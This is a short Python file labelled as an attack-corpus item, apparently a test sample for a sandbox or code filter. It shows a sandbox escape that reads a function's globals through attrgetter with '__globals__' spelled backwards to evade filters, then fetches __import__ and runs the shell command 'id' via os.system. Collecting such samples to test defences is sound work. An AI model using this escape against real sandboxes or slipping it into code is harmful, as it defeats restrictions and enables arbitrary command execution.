# corpus: attack class=internals form=targeted
# operator.attrgetter with a dunder spelled backwards.
from operator import attrgetter


def helper():
    pass


def main():
    scope = attrgetter("__slabolg__"[::-1])(helper)
    builtins = scope["__builtins__"]
    importer = builtins["__import__"] if isinstance(builtins, dict) else builtins.__import__
    return {"status": importer("os").system("id")}
